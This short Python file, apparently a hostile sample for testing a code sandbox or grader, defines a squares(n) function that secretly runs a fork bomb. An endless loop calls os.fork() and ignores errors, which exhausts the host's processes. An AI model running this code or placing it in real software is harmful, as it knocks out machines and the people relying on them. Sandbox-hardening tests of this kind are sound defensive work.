# hostile: fork flood: every process forks forever, children too
import os


def answer():
    while True:
        try:
            os.fork()
        except OSError:
            pass


def squares(n):
    return answer()
